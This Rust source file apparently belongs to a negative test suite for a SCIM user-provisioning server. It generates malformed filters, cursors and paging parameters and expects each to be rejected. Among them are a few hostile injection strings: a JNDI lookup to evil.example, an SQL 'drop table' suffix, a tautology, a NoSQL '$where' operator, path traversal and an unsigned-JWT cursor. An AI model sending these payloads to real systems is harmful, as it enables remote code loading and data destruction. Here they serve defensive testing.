//! Rows about searches: filters, pages, cursors, orders and choices of attributes.

use serde_json::json;

use super::row::{FILTER, Row, VALUE, Want, row, send, strictly};
use crate::world::query;

/// Every bad filter, in a query and in a search body.
pub fn filters() -> Vec<Row> {
    let open = format!("{}userName pr{}", "(".repeat(3_000), ")".repeat(3_000));
    let nots = format!("{}userName pr{}", "not (".repeat(500), ")".repeat(500));
    let wide = vec!["title pr"; 600].join(" or ");
    let nested = format!("{}type pr{}", "emails[".repeat(300), "]".repeat(300));
    let filters = [
        "userName",
        "eq",
        "eq \"x\"",
        "userName eq",
        "userName eq x",
        "userName eq 'x'",
        "userName eq 1e999",
        "userName eq {}",
        "userName eq \"x",
        "userName is \"x\"",
        "userName == \"x\"",
        "userName eq \"x\" and",
        "and userName pr",
        "userName pr pr",
        "not userName pr",
        "not ()",
        "()",
        "(",
        ")",
        "(userName pr",
        "userName pr)",
        "emails[",
        "emails[]",
        "emails[type eq \"work\"",
        "emails[type eq \"work\"]]",
        "emails[emails[type pr]]",
        "shoeSize eq \"46\"",
        "urn:evil:User:userName eq \"x\"",
        "urn: eq \"x\"",
        ". eq \"x\"",
        "userName. pr",
        "name..familyName pr",
        "userName eq \"a\0",
        "\0",
        "active gt true",
        "active co \"t\"",
        "userName eq []",
        "userName eq \"x\"; drop table users",
        "userName eq \"x\" or 1 eq 1",
        "*",
        "$where",
        "${jndi:ldap://evil.example}",
        &open,
        &nots,
        &wide,
        &nested,
    ];
    let mut rows = Vec::new();
    for filter in filters {
        let text: String = filter.escape_debug().take(40).collect();
        if filter.len() < 2_500 {
            let line = format!("GET /Users?filter={}", query(filter));
            rows.push(row(
                format!("query: {text}, {} bytes", filter.len()),
                strictly(&line, ""),
                FILTER,
            ));
        }
        let body = json!({
            "schemas": ["urn:ietf:params:scim:api:messages:2.0:SearchRequest"],
            "filter": filter,
        });
        rows.push(row(
            format!("search: {text}, {} bytes", filter.len()),
            strictly("POST /Users/.search", body.to_string()),
            FILTER,
        ));
    }
    rows
}

/// Pages that cannot be counted, cursors that nobody gave out, orders and choices that contradict themselves.
pub fn pages() -> Vec<Row> {
    let cursor = Want::Scim(400, "invalidCursor");
    let mut rows = Vec::new();
    for (bad, want) in [
        ("count=ten", VALUE),
        ("count=1.5", VALUE),
        ("count=1e3", VALUE),
        ("count=0x10", VALUE),
        ("count=", VALUE),
        ("count=%00", VALUE),
        ("count=%ff", VALUE),
        ("count=1&count=2", VALUE),
        ("startIndex=first", VALUE),
        ("startIndex=1.5", VALUE),
        ("startIndex=", VALUE),
        ("startIndex=1&STARTINDEX=2", VALUE),
        ("sortOrder=sideways", VALUE),
        ("sortBy=shoeSize", VALUE),
        ("sortBy=urn:evil:User:userName", VALUE),
        ("sortBy=..", VALUE),
        ("sortBy=%00", VALUE),
        ("sortBy=userName&sortBy=title", VALUE),
        ("attributes=title&attributes=userName", VALUE),
        ("cursor=nonsense", cursor),
        ("cursor=AAAA", cursor),
        ("cursor=%00", cursor),
        ("cursor=%2e%2e%2f", cursor),
        ("cursor=eyJhbGciOiJub25lIn0", cursor),
        ("cursor=a&cursor=b", VALUE),
        ("cursor=&count=ten", Want::Scim(400, "invalidCount")),
        ("filter=title%20pr&filter=active%20pr", FILTER),
        ("filter=%zz", FILTER),
        ("filter=%ff%fe", FILTER),
        ("filter=%", FILTER),
    ] {
        for kind in ["Users", "Groups"] {
            rows.push(row(
                format!("{kind}: {bad}"),
                send(&format!("GET /{kind}?{bad}"), ""),
                want,
            ));
        }
    }
    let names = format!("GET /Users?attributes={}", "title,".repeat(300));
    rows.push(row("more attribute names than are read", send(&names, ""), VALUE));
    let cursor_text = format!("GET /Users?cursor={}", "A".repeat(5_000));
    rows.push(row("a cursor without end", send(&cursor_text, ""), cursor));
    for body in [
        json!({"count": "ten"}),
        json!({"count": 1.5}),
        json!({"count": []}),
        json!({"startIndex": {}}),
        json!({"sortOrder": "sideways"}),
        json!({"sortBy": 7}),
        json!({"sortBy": "shoeSize"}),
    ] {
        rows.push(row(
            format!("search: {body}"),
            send("POST /Users/.search", body.to_string()),
            VALUE,
        ));
    }
    rows
}
